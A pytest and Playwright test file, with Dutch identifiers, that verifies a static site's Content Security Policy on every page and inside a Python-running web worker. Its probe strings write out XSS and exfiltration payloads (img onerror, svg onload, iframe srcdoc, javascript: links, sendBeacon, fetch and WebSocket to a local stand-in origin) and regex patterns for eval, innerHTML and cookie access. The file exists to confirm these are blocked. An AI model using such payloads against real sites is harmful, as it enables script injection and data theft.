"""Nothing leaks: the Content Security Policy holds on every page and inside the worker with Python."""

from __future__ import annotations

import base64
import hashlib
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Page, Worker

from .checklist import Checklist
from .conftest import SITE, NieuweContext, Toezicht

POLICY = {
    "default-src": {"'none'"},
    "style-src": {"'self'"},
    "img-src": {"'self'", "data:"},
    "font-src": {"'self'"},
    "connect-src": {"'self'"},
    "worker-src": {"'self'", "blob:"},
    "manifest-src": {"'self'"},
    "base-uri": {"'none'"},
    "form-action": {"'none'"},
    "object-src": {"'none'"},
}
#: Of the page that holds what others write: no Python, and no address that a script could reach.
ZONDER_NET = {**POLICY, "connect-src": {"'none'"}, "worker-src": {"'self'"}}
MODULE = "assets/js/engine/store.js"  # one that does nothing by itself
META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">')
STYLE = re.compile(r"<style\b[^>]*>(.*?)</style>", re.DOTALL)
SCRIPT = re.compile(r"<script\b([^>]*)>(.*?)</script>", re.DOTALL)


def pages() -> list[Path]:
    """Return every page of the built site."""
    return sorted(SITE.rglob("*.html"))


def policy(html: str) -> dict[str, set[str]]:
    """Read the one policy of a page: directive → sources."""
    (tekst,) = META.findall(html)
    delen = [deel.split() for deel in tekst.split(";") if deel.strip()]
    return {naam: set(bronnen) for naam, *bronnen in delen}


def hash_of(script: str) -> str:
    """Return how a policy names an inline script."""
    digest = hashlib.sha256(script.encode()).digest()
    return f"'sha256-{base64.b64encode(digest).decode()}'"


def test_every_page_has_the_policy_with_the_hashes_of_its_own_scripts() -> None:
    """No unsafe-inline, no eval, no hash too many, and the policy stands before the first script."""
    assert len(pages()) >= 25
    for page in pages():
        html = page.read_text(encoding="utf-8")
        gelezen = policy(html)
        inline = [
            binnen
            for kop, binnen in SCRIPT.findall(html)
            if "src=" not in kop and "application/json" not in kop
        ]
        zonder_net = page.parent.name == "meedenken"
        python = set() if zonder_net else {"'wasm-unsafe-eval'"}
        assert gelezen.pop("script-src") == {"'self'", *python, *map(hash_of, inline)}, page
        stijlen = set(map(hash_of, STYLE.findall(html)))
        beleid = ZONDER_NET if zonder_net else POLICY
        assert gelezen == {**beleid, "style-src": {"'self'", *stijlen}}, page
        assert html.index("Content-Security-Policy") < f"{html}<script".index("<script"), page


def test_every_page_runs_under_it_without_a_violation(
    nieuwe_context: NieuweContext, adres: str
) -> None:
    """Every page in turn: the page itself reports what its policy blocks, and there is nothing."""
    page = nieuwe_context(service_workers="allow").new_page()
    page.add_init_script("""
        window.geblokkeerd = [];
        document.addEventListener("securitypolicyviolation", (geval) =>
          window.geblokkeerd.push(`${geval.effectiveDirective} ${geval.blockedURI}`));""")
    for bestand in pages():
        if bestand.name == "404.html":
            continue
        pad = bestand.relative_to(SITE).as_posix().removesuffix("index.html")
        page.goto(adres + pad, wait_until="load")
        assert page.evaluate("window.geblokkeerd") == [], pad
    assert page.context.cookies() == []
    assert page.evaluate("document.cookie") == ""


def test_a_whole_visit_leaves_no_cookie(page: Page, adres: str) -> None:
    """Fill in, judge, share, look around: not one cookie, of nobody."""
    checklist = Checklist(page, adres).open().wacht_op_python()
    checklist.nieuw_idee()
    checklist.typ("uitdaging", "Iets")
    checklist.wacht_op_bewaard()
    checklist.download("markdown")
    page.goto(adres + "naslagwerk/doelen/")
    page.goto(adres + "afdrukken/")
    assert page.context.cookies() == []
    assert page.evaluate("document.cookie") == ""


# --- what injected code could do -----------------------------------------------------------------

# Tried later than the test's own call: what a debugger runs may do more than a page.
PROBEER = """async (elders) => {
  const later = (doe) => new Promise((klaar) => setTimeout(async () => {
    try { await doe(); klaar("gelukt"); } catch (fout) { klaar(fout.name); }
  }));
  window.xss = undefined;
  const zet = (html) => { const div = document.createElement("div"); div.innerHTML = html; document.body.append(div); };
  const uit = {
    eval: await later(() => eval("window.xss = 1")),
    Function: await later(() => new Function("window.xss = 2")()),
    fetch: await later(() => fetch(elders)),
    beeld: await later(() => new Promise((klaar, nee) => {
      const beeld = new Image(); beeld.onload = klaar; beeld.onerror = () => nee(new TypeError()); beeld.src = elders + "x.png";
    })),
    import: await later(() => import(elders + "x.js")),
    worker: await later(() => new Worker(elders + "x.js")),
    socket: await later(() => new Promise((klaar, nee) => {
      const socket = new WebSocket(elders.replace("http", "ws")); socket.onopen = klaar; socket.onerror = () => nee(new TypeError());
    })),
  };
  await later(() => {
    zet(`<img src=x onerror="window.xss = 3"><svg onload="window.xss = 4"></svg>`);
    zet(`<iframe srcdoc="<script>parent.xss = 5<\\/script>"></iframe><object data="${elders}"></object>`);
    zet(`<form id="weg" action="${elders}"><input name="a" value="geheim"></form>`);
    const script = document.createElement("script"); script.textContent = "window.xss = 6"; document.body.append(script);
    const ver = document.createElement("script"); ver.src = elders + "x.js"; document.body.append(ver);
    document.getElementById("weg").submit();
    setTimeout("window.xss = 7");
    const link = document.createElement("a"); link.href = "javascript:window.xss = 8"; document.body.append(link); link.click();
    navigator.sendBeacon(elders, "geheim");
  });
  await new Promise((klaar) => setTimeout(klaar, 400));
  return { ...uit, xss: String(window.xss) };
}"""
IN_WORKER = """async (elders) => {
  const later = (doe) => new Promise((klaar) => setTimeout(async () => {
    try { await doe(); klaar("gelukt"); } catch (fout) { klaar(fout.name); }
  }));
  return {
    eval: await later(() => eval("1 + 1")),
    Function: await later(() => new Function("return 1")()),
    fetch: await later(() => fetch(elders)),
    "fetch zonder cors": await later(() => fetch(elders, { mode: "no-cors" })),
    xhr: await later(() => new Promise((klaar, nee) => {
      const vraag = new XMLHttpRequest(); vraag.open("GET", elders); vraag.onload = klaar; vraag.onerror = () => nee(new TypeError()); vraag.send();
    })),
    import: await later(() => import(elders + "x.js")),
    socket: await later(() => new Promise((klaar, nee) => {
      const socket = new WebSocket(elders.replace("http", "ws")); socket.onopen = klaar; socket.onerror = () => nee(new TypeError());
    })),
    worker: await later(() => new Promise((klaar, nee) => {
      const worker = new Worker(elders + "x.js"); worker.onerror = () => nee(new TypeError()); worker.onmessage = klaar;
    })),
    thuis: await later(async () => { if (!(await fetch(new URL("../../", location.origin + "/werktsamen/assets/js/"))).ok) throw new Error(); }),
  };
}"""


class Elders(BaseHTTPRequestHandler):
    """Another origin that lets everybody in, and keeps who came."""

    bezoek: list[str]

    def do_GET(self) -> None:
        """Answer anything with a script that reports to its own page."""
        self.bezoek.append(self.path)
        body = b"postMessage('binnen')"
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        """Answer a form or a beacon just so."""
        self.do_GET()

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class' name
        """Stay silent."""


@pytest.fixture
def elders() -> Iterator[tuple[str, list[str]]]:
    """Serve another origin; give its address and the list of its visits."""
    bezoek: list[str] = []
    soort = type("EldersNu", (Elders,), {"bezoek": bezoek})
    server = ThreadingHTTPServer(("127.0.0.1", 0), soort)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/", bezoek
    server.shutdown()


@pytest.fixture
def vrij(toezicht: Toezicht) -> Iterator[None]:
    """Let a test provoke the policy; what then must not happen the test itself asserts."""
    yield
    toezicht.overtredingen.clear()


@pytest.mark.usefixtures("vrij")
def test_code_injected_in_a_page_reaches_nothing(
    nieuwe_context: NieuweContext, adres: str, elders: tuple[str, list[str]]
) -> None:
    """It cannot run as text, nor send anything to another origin."""
    ver, bezoek = elders
    page = nieuwe_context().new_page()
    for pad in ("", "checklist/"):
        page.goto(adres + pad)
        uit = page.evaluate(PROBEER, ver)
        assert uit.pop("xss") == "undefined"
        assert "gelukt" not in uit.values(), uit
        assert page.url == adres + pad
    assert bezoek == []


@pytest.mark.usefixtures("vrij")
def test_code_in_the_worker_with_python_reaches_nothing(
    nieuwe_context: NieuweContext, adres: str, elders: tuple[str, list[str]]
) -> None:
    """The very worker that runs Python is under the page's policy, and still reads its own site."""
    ver, bezoek = elders
    page = nieuwe_context().new_page()
    Checklist(page, adres).open().wacht_op_python()
    worker = python_worker(page)
    uit = worker.evaluate(IN_WORKER, ver)
    assert uit.pop("thuis") == "gelukt"
    assert "gelukt" not in uit.values(), uit
    assert bezoek == []


@pytest.mark.usefixtures("vrij")
def test_the_probe_of_the_worker_would_notice(
    nieuwe_context: NieuweContext, adres: str, elders: tuple[str, list[str]]
) -> None:
    """In a worker that is not under the policy, started from an address, the same probe gets out."""
    ver, bezoek = elders
    page = nieuwe_context().new_page()
    page.goto(adres + "over/")
    with page.expect_worker() as verwacht:
        page.evaluate(
            "(van) => { window.proef = new Worker(van, { type: 'module' }); }", adres + MODULE
        )
    uit = verwacht.value.evaluate(IN_WORKER, ver)
    assert uit["eval"] == uit["fetch"] == "gelukt"
    assert bezoek


def python_worker(page: Page) -> Worker:
    """Return the worker that Python runs in: the only one, started from a blob."""
    (worker,) = page.workers
    assert worker.url.startswith("blob:")
    return worker


def test_the_service_worker_is_the_one_exception_and_asks_only_its_own_site() -> None:
    """A service worker has no page whose policy it could have: it may not hold an address or eval."""
    tekst = (SITE / "sw.js").read_text(encoding="utf-8")
    assert "://" not in re.sub(r"^\s*(//|\*|/\*).*$", "", tekst, flags=re.MULTILINE)
    assert not re.search(r"\beval\b|\bFunction\(|importScripts|innerHTML", tekst)
    for script in SITE.rglob("*.js"):
        if "assets/python" not in script.as_posix():
            inhoud = script.read_text(encoding="utf-8")
            assert not re.search(
                r"\beval\(|new Function\b|\.innerHTML|insertAdjacentHTML|document\.write|\.cookie\b",
                inhoud,
            ), script
